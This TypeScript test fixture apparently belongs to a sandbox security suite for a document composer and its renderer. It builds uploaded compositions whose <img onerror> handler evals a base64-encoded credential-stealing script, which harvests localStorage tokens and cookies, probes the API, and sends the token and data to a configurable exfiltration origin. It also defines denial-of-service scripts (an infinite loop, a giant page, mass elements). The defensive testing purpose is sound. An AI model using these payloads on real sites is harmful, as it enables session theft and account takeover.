/**
 * Compositions "uploaded by someone else" whose HTML runs script in the Composer page (the stand-in renders widget
 * HTML with innerHTML, as a rich-text app may). Stored directly in the stand-in: the validator never sees them.
 */

function composition(title: string, html: string): string {
  return JSON.stringify({
    version: '1.1',
    metadata: { title, description: '', thumb: null, tags: [] },
    interface: { content_language: 'pt_br', index_option: 'buttons', font_family: 'Lato', show_summary: 'disabled', finish_btn: 'disabled' },
    structure: [{ id: 'c0ffee00-0000-11ef-8000-00000000c0de', type: 'text-1', content_title: null, background_color: '#FFFFFF', padding_top: 0, padding_bottom: 0, dam_assets: [], content: html }],
    assets: [],
  });
}

/** HTML that runs `source` when the widget renders (an `<img onerror>`, the classic). */
function running(source: string): string {
  return `<p>Lição</p><img src="/missing.png" onerror="eval(atob('${Buffer.from(source).toString('base64')}'))">`;
}

/** Where the thief's script writes what it found: an element the tests can wait for (`#stolen`). */
export const STOLEN_SELECTOR = '#stolen';

/**
 * A script that collects everything a page can reach (localStorage, cookies), tries the API with it from the page
 * (fetch, XHR, `access_token` and `project_key` query parameters, a multipart upload, other paths, another
 * composition's read), from a dedicated worker and a SharedWorker, with sendBeacon, then writes what it found and
 * got into the DOM (`#stolen`), the console, a blocked URL (base64) and a URL of the API itself.
 */
export function credentialThiefScript(options: { otherUid: string; exfiltrationOrigin: string }): string {
  return `(async () => {
  const API = window.COMPOSER_STANDIN_CONFIG.apiUrl;
  const OTHER = ${JSON.stringify(options.otherUid)};
  const found = { cookie: document.cookie, storage: {} };
  for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); found.storage[k] = localStorage.getItem(k); }
  const user = JSON.parse(localStorage.getItem('rdp-composer-user-data') || '{}');
  const project = JSON.parse(localStorage.getItem('rdp-composer-active-project') || '{}');
  const token = user.access_token || '';
  const key = project.uid || '';
  const q = 'access_token=' + encodeURIComponent(token) + '&project_key=' + encodeURIComponent(key) + '&api_env=prd';
  const headers = { Authorization: 'Bearer ' + token, 'Project-Key': key, 'Api-Env': 'prd' };
  const upload = API + '/storage/v1.0/upload/connector/uid/connector-1';
  const form = () => { const f = new FormData(); f.append('file', new Blob(['{"version":"1.1","metadata":{"title":"pwned"},"structure":[]}'], { type: 'digitalpages/composer' }), 'pwned.rdpcomposer'); return f; };
  const got = {};
  const attempt = async (name, run) => { try { const r = await run(); got[name] = r.status + ' ' + (await r.text()).slice(0, 300); } catch (e) { got[name] = 'ERR ' + e.message; } };
  await attempt('me', () => fetch(API + '/auth/v1.0/user/me', { headers }));
  await attempt('uploadHeaders', () => fetch(upload, { method: 'POST', headers, body: form() }));
  await attempt('uploadQuery', () => fetch(upload + '?' + q, { method: 'POST', body: form() }));
  await attempt('otherRead', () => fetch(API + '/storage/v1.0/content?uid=' + encodeURIComponent(OTHER), { headers }));
  await attempt('otherReadQuery', () => fetch(API + '/storage/v1.0/content?uid=' + encodeURIComponent(OTHER) + '&' + q));
  await attempt('versions', () => fetch(API + '/storage/v1.0/content/versions/dynamic?' + q, { method: 'POST', headers, body: '{}' }));
  await attempt('otherPath', () => fetch(API + '/auth/v1.0/users', { headers }));
  got.xhr = await new Promise((resolve) => { const x = new XMLHttpRequest(); x.open('PUT', API + '/storage/v1.0/content?uid=' + encodeURIComponent(OTHER)); x.setRequestHeader('Authorization', 'Bearer ' + token); x.setRequestHeader('Project-Key', key); x.onloadend = () => resolve(x.status + ' ' + x.responseText.slice(0, 200)); x.send('{}'); });
  const workerFetch = 'fetch(' + JSON.stringify(upload + '?' + q) + ', { method: "POST", headers: { Authorization: ' + JSON.stringify('Bearer ' + token) + ' }, body: "x" }).then(async (r) => r.status + " " + (await r.text()).slice(0, 200), (e) => "ERR " + e.message)';
  got.dedicatedWorker = await new Promise((resolve) => { const w = new Worker(window.URL.createObjectURL(new Blob([workerFetch + '.then((m) => postMessage(m))']))); w.onmessage = (e) => resolve(e.data); setTimeout(() => resolve('timeout'), 4000); });
  got.sharedWorker = await new Promise((resolve) => { try { const s = new SharedWorker(window.URL.createObjectURL(new Blob(['onconnect = (c) => { const port = c.ports[0]; ' + workerFetch + '.then((m) => port.postMessage(m)); };']))); s.port.onmessage = (e) => resolve(e.data); s.port.start(); setTimeout(() => resolve('timeout'), 4000); } catch (e) { resolve('ERR ' + e.message); } });
  got.beacon = navigator.sendBeacon(upload + '?' + q, 'x');
  const dump = JSON.stringify({ found, got });
  console.error('stolen ' + dump);
  console.error('stolen-b64 ' + btoa(unescape(encodeURIComponent(token + ' ' + key))));
  // Awaited before the dump is written: readiness waits for the page to be quiet after that write, so the blocked
  // request is in the report whatever the machine's load (it was a race with the capture, which now starts earlier).
  await fetch(${JSON.stringify(options.exfiltrationOrigin)} + '/' + btoa(unescape(encodeURIComponent(token + ' ' + key))) + '?d=' + encodeURIComponent(dump.slice(0, 1500))).catch(() => undefined);
  fetch(API + '/exfil/' + encodeURIComponent(key) + '?t=' + encodeURIComponent(token)).catch(() => undefined);
  const out = document.createElement('pre');
  out.id = 'stolen';
  out.style.whiteSpace = 'pre-wrap';
  out.textContent = dump;
  document.body.appendChild(out);
})();`;
}

/**
 * A composition "uploaded by someone else" whose text widget runs {@link credentialThiefScript} when its HTML is
 * rendered unsanitised (an `<img onerror>`).
 */
export function credentialThiefComposition(options: { otherUid: string; exfiltrationOrigin: string }): string {
  return composition('Lição hostil', running(credentialThiefScript(options)));
}

/**
 * App scripts (see the stand-in's `setAppScript`): what a page can do once any script runs in it, whether through
 * an XSS hole of the app or a sanitiser miss. The composition's own HTML cannot run them: the view sanitiser strips
 * script, event handlers and `style`.
 */
export const APP_SCRIPTS = {
  /** The renderer spins in `while (true) {}` shortly after load (after the app has asked for the composition). */
  spin: 'setTimeout(() => { for (;;) { /* spin */ } }, 300);',
  /** The page becomes 30 000 000 px tall (the PDF of ~27 000 pages, 22 MB in 6 min 40 s). */
  tall: "document.body.insertAdjacentHTML('beforeend', '<div style=\"height:30000000px\"><p>Fim</p></div>');",
  /** 50 000 elements that look like rendered widgets, each with a 1 000-character type. */
  manyWidgets: "for (let i = 0; i < 50000; i++) { const s = document.createElement('section'); s.setAttribute('data-widget-type', 'x'.repeat(1000)); s.setAttribute('data-widget-id', String(i)); document.body.appendChild(s); }",
} as const;
